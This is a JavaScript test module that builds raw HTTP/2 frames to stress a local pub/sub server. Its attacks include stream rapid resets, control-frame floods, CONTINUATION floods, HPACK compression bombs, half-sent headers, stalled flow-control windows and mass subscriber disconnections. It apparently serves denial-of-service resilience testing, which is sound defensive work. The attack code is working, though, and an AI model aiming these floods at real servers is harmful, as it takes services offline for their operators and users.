// What can be sent over HTTP/2 with little effort. Frames are written as bytes: a library would not send most
// of them, and would send the others slowly.

import { createHmac } from "node:crypto";
import { arrive, connect, connectMany, destroyAll, flood, pause, repeat, request, untilThen } from "./support.mjs";

const DATA = 0, HEADERS = 1, PRIORITY = 2, RST_STREAM = 3, SETTINGS = 4, PING = 6, WINDOW_UPDATE = 8, CONTINUATION = 9;
const END_STREAM = 1, ACK = 1, END_HEADERS = 4;
const INITIAL_WINDOW_SIZE = 4;
const GET = 0x82, POST = 0x83, HTTP = 0x86;
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head[3] = type;
    head[4] = flags;
    head.writeUInt32BE(stream, 5);
    return Buffer.concat([head, payload]);
}

function uint32(n) {
    const bytes = Buffer.alloc(4);
    bytes.writeUInt32BE(n);
    return bytes;
}

/** A string of HPACK, without Huffman's code. */
function string(text) {
    const bytes = Buffer.from(text);
    const rest = [];
    for (let left = bytes.length - 127; left >= 0; left = left < 128 ? -1 : left >> 7) {
        rest.push(left < 128 ? left : left & 127 | 128);
    }
    return Buffer.concat([Buffer.from(bytes.length < 127 ? [bytes.length] : [127, ...rest]), bytes]);
}

/** Fields that are not added to the table; `name` may be the number of one of HPACK's own. */
function field(name, value) {
    return typeof name === "number" ? Buffer.concat([Buffer.from([name]), string(value)])
        : Buffer.concat([Buffer.from([0]), string(name), string(value)]);
}

function head(path, method = GET, ...more) {
    return Buffer.concat([Buffer.from([method, HTTP]), field(4, path), field(1, "localhost"), ...more]);
}

/** An extended CONNECT, which opens a WebSocket. */
function websocket(path) {
    return Buffer.concat([field(2, "CONNECT"), field(":protocol", "websocket"), Buffer.from([HTTP]), field(4, path),
        field(1, "localhost"), field("sec-websocket-version", "13")]);
}

function ask(stream, path) {
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, head(path));
}

function settings(window = 65535) {
    const id = Buffer.from([0, INITIAL_WINDOW_SIZE]);
    return Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.concat([id, uint32(window)])), frame(SETTINGS, ACK, 0)]);
}

/** As many as there are, each made for its stream's id. */
function ofStreams(count, make) {
    return Buffer.concat(Array.from({ length: count }, (_, n) => make(2 * n + 1)));
}

/** Sends bytes once, waits until it is cut off or has been for a moment, and goes. */
async function sayOnce(port, bytes, until) {
    const socket = await connect(port).catch(() => undefined);
    if (!socket) {
        return;
    }
    const closed = new Promise((resolve) => socket.once("close", resolve));
    socket.write(Buffer.concat([settings(), bytes]));
    await Promise.race([closed, pause(Math.min(500, Math.max(1, until - Date.now())))]);
    socket.destroy();
}

/** Sends the same again and again, and comes back when it is cut off. */
async function sayForEver(port, bytes, until, options) {
    const all = Buffer.concat(Array(Math.ceil(20_000 / bytes.length)).fill(bytes));
    while (Date.now() < until) {
        const socket = await connect(port, options).catch(() => undefined);
        socket?.write(Buffer.concat([settings(), ask(1, "/channels/a?stream=sse"),
            frame(HEADERS, END_HEADERS, 3, head("/channels/a", POST))]));
        await (socket ? flood(socket, all, until) : pause(20));
        socket?.destroy();
    }
}

/** A head in one frame, or in several of which the last says so if it is `whole`. */
function heads(stream, block, whole = true) {
    const frames = [];
    for (let at = 0; at < block.length || !at; at += 16_000) {
        const last = whole && at + 16_000 >= block.length;
        frames.push(frame(at ? CONTINUATION : HEADERS, (last ? END_HEADERS : 0) | (at ? 0 : END_STREAM), stream,
            block.subarray(at, at + 16_000)));
    }
    return Buffer.concat(frames);
}

/** 12,000 bytes that stand for 32 MiB: a field of 4,000 bytes goes to the table, and is named again and again. Without `start` they are trailers. */
function bomb(...start) {
    const entry = Buffer.concat([Buffer.from([0x40]), string("x"), string("b".repeat(4000))]);
    return Buffer.concat([...start, entry, Buffer.alloc(8000, 0xbe)]);
}

/* The subscribers of a subject: a connection has 250. All they held is freed, but the allocator keeps pages of which a piece is still in
   use: 3 MiB after 2,000 and 4 MiB after 5,000, which is the bound of memory. Further rounds add nothing. */
const CROWD = Number(process.env.CROWD ?? 2_000);
const SECRET = "a secret of the hostile tests, long enough for HS256";

function tokenOf(sub) {
    const part = (json) => Buffer.from(JSON.stringify(json)).toString("base64url");
    const text = `${part({ alg: "HS256", typ: "JWT" })}.${part({ sub, exp: Math.floor(Date.now() / 1000) + 3600 })}`;
    return `${text}.${createHmac("sha256", SECRET).update(text).digest("base64url")}`;
}

export const attacks = {
    disconnections: {
        title: `${CROWD.toLocaleString("en")} streams of one subject, which are listed and disconnected again and again`,
        config: `access: {anybody: [read, publish, presence, webhooks, admin]}\ntokens: [{secret: "${SECRET}"}]\n`,
        async attack(port, until) {
            const token = field("authorization", `Bearer ${tokenOf("crowd")}`);
            const streams = Buffer.concat([settings(), ofStreams(250, (id) =>
                frame(HEADERS, END_HEADERS | END_STREAM, id, head("/channels/idle?stream=sse", GET, token)))]);
            for (let rounds = 0; Date.now() < until; rounds++) {
                const sockets = await connectMany(port, Math.ceil(CROWD / 250));
                await arrive(port, rounds ? until : until + 60_000, CROWD, () => sockets.forEach((socket) => socket.write(streams)));
                const nobody = Array.from({ length: 4 }, () => request(port, "DELETE", "/subscribers?subject=nobody"));
                await Promise.all([...nobody, request(port, "GET", "/subscribers?limit=1000&subject=nobody"), request(port, "GET", "/subscribers?limit=1000")]);
                const { text } = await request(port, "DELETE", "/subscribers?subject=crowd");
                if (!rounds && JSON.parse(text).disconnected < CROWD) {
                    console.error(`    not all of ${CROWD} were disconnected: ${text}`);
                    process.exit(1);
                }
                destroyAll(sockets);
            }
        },
    },
    http2_resets: {
        title: "HTTP/2: streams that are reset at once by the client, or by the server for a fault of the client",
        async attack(port, until) {
            const path = "/channels/a?stream=sse";
            const own = ofStreams(2000, (id) => Buffer.concat([ask(id, path), frame(RST_STREAM, 0, id, uint32(8))]));
            const made = ofStreams(2000, (id) => Buffer.concat([ask(id, path), frame(WINDOW_UPDATE, 0, id, uint32(0))]));
            await repeat(until, 8, (n) => sayOnce(port, n % 2 ? own : made, until));
        },
    },
    http2_floods: {
        title: "HTTP/2: SETTINGS, PING, PRIORITY, WINDOW_UPDATE, DATA of nothing and unknown frames at full speed",
        async attack(port, until) {
            const frames = [frame(SETTINGS, 0, 0), frame(PING, 0, 0, Buffer.alloc(8)),
                frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 7])), frame(WINDOW_UPDATE, 0, 0, uint32(1)),
                frame(DATA, 0, 3), frame(DATA, 8, 3, Buffer.from([1, 0])), frame(0x77, 0, 0, Buffer.alloc(3))];
            await Promise.all(frames.flatMap((bytes) => [true, false].map((read) =>
                sayForEver(port, bytes, until, { read }))));
        },
    },
    http2_heads: {
        title: "HTTP/2: floods of CONTINUATION, bombs of HPACK, large heads and broken ones",
        async attack(port, until) {
            const nothing = Buffer.concat(Array(500).fill(frame(CONTINUATION, 0, 1)));
            const all = [
                Buffer.concat([frame(HEADERS, END_STREAM, 1, head("/")), nothing]),
                ofStreams(100, (id) => heads(id, bomb(head("/")))),
                ofStreams(100, (id) => Buffer.concat([frame(HEADERS, END_HEADERS, id, head("/channels/a", POST)), heads(id, bomb())])),
                ofStreams(30, (id) => heads(id, head("/", GET, ...Array(30).fill(field("x", "y".repeat(2000)))))),
                ofStreams(2000, (id) => heads(id, head("/", GET, field("connection", "close")))),
                ofStreams(2000, (id) => heads(id, head("/", GET, field(":path", "/b")))),
            ];
            await repeat(until, 10, (n) => sayOnce(port, all[n % all.length], until));
        },
    },
    http2_half_heads: {
        title: "HTTP/2: 500 connections with half a head of 60 KB, 500 with half a preface, 500 that say nothing",
        async attack(port, until) {
            const half = heads(1, head("/", GET, ...Array(30).fill(field("x", "y".repeat(2000)))), false);
            const sockets = await connectMany(port, 1500);
            sockets.forEach((socket, n) => n % 3 && socket.write(n % 3 === 1 ? Buffer.concat([settings(), half])
                : PREFACE.subarray(0, 20)));
            await untilThen(until);
            destroyAll(sockets);
        },
    },
    http2_stalled: {
        title: "HTTP/2: 2,000 streams whose windows stay shut while 60 MB pass, and 1,000 answers that are not read",
        async attack(port, until) {
            const stalled = await connectMany(port, 10);
            await arrive(port, until, 2000, () => stalled.forEach((socket) => socket.write(Buffer.concat([settings(0),
                ofStreams(200, (id) => ask(id, "/channels/much?stream=ndjson"))]))));
            const unread = await connectMany(port, 10, { read: false });
            unread.forEach((socket) => socket.write(Buffer.concat([settings(1 << 20),
                frame(WINDOW_UPDATE, 0, 0, uint32(1 << 24)), ofStreams(100, (id) => ask(id, "/metrics"))])));
            for (let n = 0; n < 1000 && Date.now() < until; n++) {
                await request(port, "POST", "/channels/much", { body: "m".repeat(64_000) });
            }
            await untilThen(until);
            destroyAll([...stalled, ...unread]);
        },
    },
    http2_unfinished: {
        title: "HTTP/2: 500 WebSocket messages and 500 bodies on ten connections, never finished",
        async attack(port, until) {
            const start = Buffer.from([0x82, 0xff, 0, 0, 0, 0, 0, 0x0f, 0xff, 0xff, 0, 0, 0, 0]);
            const part = (id, first) => Buffer.concat(Array.from({ length: 4 }, (_, n) => frame(DATA, 0, id,
                Buffer.concat([n ? Buffer.alloc(0) : first, Buffer.alloc(15_000, "x")]))));
            const bytes = ofStreams(100, (id) => (id % 4 === 1
                ? Buffer.concat([frame(HEADERS, END_HEADERS, id, websocket("/channels/a")), part(id, start)])
                : Buffer.concat([frame(HEADERS, END_HEADERS, id, head("/channels/a", POST)), part(id, Buffer.alloc(0))])));
            const sockets = await connectMany(port, 10);
            sockets.forEach((socket) => socket.write(Buffer.concat([settings(), bytes])));
            await untilThen(until);
            destroyAll(sockets);
        },
    },
};
